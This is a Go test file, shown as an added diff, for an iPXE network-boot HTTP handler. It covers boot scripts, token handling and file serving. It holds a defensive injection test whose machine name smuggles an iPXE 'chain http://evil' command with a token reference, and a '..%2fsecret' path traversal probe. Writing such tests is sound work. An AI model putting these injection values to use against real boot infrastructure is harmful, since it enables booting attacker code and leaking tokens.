@@ -1,0 +1,146 @@
+package boot_test
+
+import (
+	"bytes"
+	"log/slog"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	"sprout"
+	"sprout/boot"
+)
+
+// A rack is a handler, what it told, and what it wrote to its log.
+type rack struct {
+	http.Handler
+	ledger *ledger
+	events []string
+	log    bytes.Buffer
+}
+
+func handler(t *testing.T) *rack {
+	t.Helper()
+	r := &rack{ledger: lon1()}
+	files := t.TempDir()
+	for name, content := range map[string]string{"vmlinuz": "the kernel", "initrd": "the initrd", "snponly.efi": "the loader", "secret": "no"} {
+		if err := os.WriteFile(filepath.Join(files, name), []byte(content), 0o600); err != nil {
+			t.Fatal(err)
+		}
+	}
+	r.Handler = boot.Handler(boot.Config{
+		Ledger: r.ledger, URL: "http://10.0.0.1:8080", Files: files, Loaders: files, Cmdline: "quiet",
+		Events: func(e sprout.BootEvent) { r.events = append(r.events, e.MAC+" "+e.What+" "+e.Detail) },
+		Log:    slog.New(slog.NewTextHandler(&r.log, &slog.HandlerOptions{Level: slog.LevelDebug})),
+		Now:    func() time.Time { return now },
+	})
+	return r
+}
+
+// do asks from an address and returns what is answered.
+func (r *rack) do(method, path, from string, header ...string) *httptest.ResponseRecorder {
+	q := httptest.NewRequest(method, path, nil)
+	q.RemoteAddr = from + ":40000"
+	if len(header) == 2 {
+		q.Header.Set(header[0], header[1])
+	}
+	w := httptest.NewRecorder()
+	r.ServeHTTP(w, q)
+	return w
+}
+
+func TestScript(t *testing.T) {
+	r := handler(t)
+	for path, c := range map[string]struct {
+		from   string
+		status int
+		has    []string
+		not    string
+	}{
+		"/boot/52-54-00-00-00-01.ipxe": {"10.0.0.5", 200, []string{
+			"#!ipxe\n", "echo Sprout: web-01 boots the ramdisk to deploy\n", "boot attempt att_1\n",
+			"kernel http://10.0.0.1:8080/boot/vmlinuz initrd=initrd sprout.url=http://10.0.0.1:8080 sprout.token=TOKEN1 BOOTIF=01-52-54-00-00-00-01 ip=none console=ttyS0 console=tty0 quiet ||",
+			"initrd --name initrd http://10.0.0.1:8080/boot/initrd ||",
+		}, "exit"},
+		"/boot/52:54:00:00:00:01.ipxe": {"10.0.0.5", 200, []string{"TOKEN1"}, "exit"},
+		"/boot/52-54-00-00-00-02.ipxe": {"10.0.0.101", 200, []string{"#!ipxe\n", "echo Sprout: db-01 has no boot intent", "exit 0", "exit 1"}, "token"},
+		"/boot/52-54-00-00-00-09.ipxe": {"10.0.0.103", 200, []string{"sprout.token=TOKEN9", "to be discovered"}, "exit"},
+		"/boot/52-54-00-00-00-0A.ipxe": {"10.0.0.103", 403, []string{"leased to " + stranger}, "token"},
+		"/boot/52-54-00-00-00-03.ipxe": {"10.0.0.5", 403, nil, "token"},
+		"/boot/52-54-00-00-00.ipxe":    {"10.0.0.5", 404, nil, "token"},
+		"/boot/52-54-00-00-00-0g.ipxe": {"10.0.0.5", 404, nil, "token"},
+		"/boot/52-54-00-00-00-01":      {"10.0.0.5", 404, nil, "token"},
+	} {
+		w := r.do("GET", path, c.from)
+		if w.Code != c.status {
+			t.Errorf("%s: status %d, want %d: %s", path, w.Code, c.status, w.Body)
+		}
+		for _, words := range c.has {
+			if !strings.Contains(w.Body.String(), words) {
+				t.Errorf("%s: no %q in\n%s", path, words, w.Body)
+			}
+		}
+		if strings.Contains(w.Body.String(), c.not) {
+			t.Errorf("%s: there should be no %q in\n%s", path, c.not, w.Body)
+		}
+	}
+	if !slices.Equal(r.ledger.started, []string{stranger + " 10.0.0.103"}) {
+		t.Errorf("discoveries started: %v", r.ledger.started)
+	}
+	if out := r.log.String() + strings.Join(r.events, "\n"); strings.Contains(out, "TOKEN") {
+		t.Errorf("a token was logged:\n%s", out)
+	}
+	if !slices.Contains(r.events, web01+" http-script web-01 boots the ramdisk to deploy") {
+		t.Errorf("events: %v", r.events)
+	}
+}
+
+func TestScriptWithoutDiscovery(t *testing.T) {
+	r := handler(t)
+	r.ledger.startErr = errDiskFull
+	w := r.do("GET", "/boot/52-54-00-00-00-09.ipxe", "10.0.0.103")
+	if w.Code != 200 || !strings.Contains(w.Body.String(), "exit 1") || strings.Contains(w.Body.String(), "TOKEN") {
+		t.Errorf("%d: %s", w.Code, w.Body)
+	}
+}
+
+func TestNamesAreNoCommands(t *testing.T) {
+	r := handler(t)
+	r.ledger.known[web01] = sprout.SiteMachine{ID: "mch_1", Name: "x\nchain http://evil && ${token}"}
+	w := r.do("GET", "/boot/52-54-00-00-00-01.ipxe", "10.0.0.5")
+	if strings.Contains(w.Body.String(), "\nchain") || strings.Contains(w.Body.String(), "${") || strings.Contains(w.Body.String(), "&&") {
+		t.Errorf("a name became a command:\n%s", w.Body)
+	}
+}
+
+func TestFiles(t *testing.T) {
+	r := handler(t)
+	if w := r.do("GET", "/boot/vmlinuz", "10.0.0.101"); w.Code != 200 || w.Body.String() != "the kernel" {
+		t.Errorf("%d: %s", w.Code, w.Body)
+	}
+	if w := r.do("GET", "/boot/initrd", "10.0.0.101", "Range", "bytes=4-"); w.Code != 206 || w.Body.String() != "initrd" {
+		t.Errorf("a range: %d: %s", w.Code, w.Body)
+	}
+	if w := r.do("HEAD", "/boot/snponly.efi", "10.0.0.101"); w.Code != 200 || w.Body.Len() != 0 || w.Header().Get("Content-Length") != "10" {
+		t.Errorf("HEAD: %d, %v", w.Code, w.Header())
+	}
+	want := []string{db01 + " http-vmlinuz whole, in 0.0 s", db01 + " http-initrd 6 of 10 bytes, in 0.0 s"}
+	if !slices.Equal(r.events, want) {
+		t.Errorf("events %q, want %q: a HEAD is none", r.events, want)
+	}
+	for path, status := range map[string]int{
+		"/boot/undionly.kpxe": 404, "/boot/secret": 404, "/boot/..%2fsecret": 404, "/boot/": 404, "/": 404, "/boot/vmlinuz/x": 404,
+	} {
+		if w := r.do("GET", path, "10.0.0.101"); w.Code != status {
+			t.Errorf("%s: %d, want %d", path, w.Code, status)
+		}
+	}
+	if w := r.do("POST", "/boot/vmlinuz", "10.0.0.101"); w.Code != 405 {
+		t.Errorf("POST: %d", w.Code)
+	}
+}
